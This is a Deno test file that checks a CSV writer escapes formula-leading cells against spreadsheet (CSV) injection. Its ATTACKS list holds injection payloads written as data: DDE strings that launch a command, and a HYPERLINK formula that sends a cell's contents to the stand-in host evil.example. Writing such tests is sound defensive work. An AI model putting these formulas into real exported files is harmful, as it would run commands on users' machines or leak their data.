/** #18 item 17: stringifyCsv neutralises formula-leading cells (OWASP CSV injection). */
import assert from "node:assert/strict";
import { parseDatasetBytes, stringifyCsv } from "../../lib/datasets/mod.ts";

const ATTACKS = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1", // full-width =
];

Deno.test("stringifyCsv() prefixes every formula-leading text cell with a quote", async (t) => {
  for (const attack of ATTACKS) {
    await t.step(JSON.stringify(attack), async () => {
      const text = stringifyCsv([{ id: "a", note: attack }], ["id", "note"]);
      // Read back as a spreadsheet would see the cell: it starts with ', so it is text.
      const back = await parseDatasetBytes(new TextEncoder().encode(text), { format: "csv" });
      assert.equal(back.rows[0]!.note, `'${attack}`, text);
    });
  }
});

Deno.test("stringifyCsv() leaves numbers (-5 stays -5) and harmless text alone; booleans round-trip", async () => {
  const text = stringifyCsv(
    [{ n: -5, x: -0.25, s: "a-b", e: "mail@x.org", p: 5, b: true, f: false, z: null }],
    ["n", "x", "s", "e", "p", "b", "f", "z"],
  );
  assert.equal(text, "n,x,s,e,p,b,f,z\n-5,-0.25,a-b,mail@x.org,5,true,false,\n");
  const back = await parseDatasetBytes(new TextEncoder().encode(text), { format: "csv" });
  assert.deepEqual(back.rows[0], {
    n: -5,
    x: -0.25,
    s: "a-b",
    e: "mail@x.org",
    p: 5,
    b: true,
    f: false,
    z: null,
  });
});

Deno.test("stringifyCsv() neutralises a formula-leading header too", () => {
  const text = stringifyCsv([{ "=1+1": 1 }], ["=1+1"]);
  assert.equal(text.split("\n")[0], "'=1+1");
});

Deno.test("stringifyCsv(..., { escapeFormulas: false }) writes cells verbatim", () => {
  const text = stringifyCsv([{ a: "=1+1", b: "@x" }], ["a", "b"], { escapeFormulas: false });
  assert.equal(text, "a,b\n=1+1,@x\n");
});
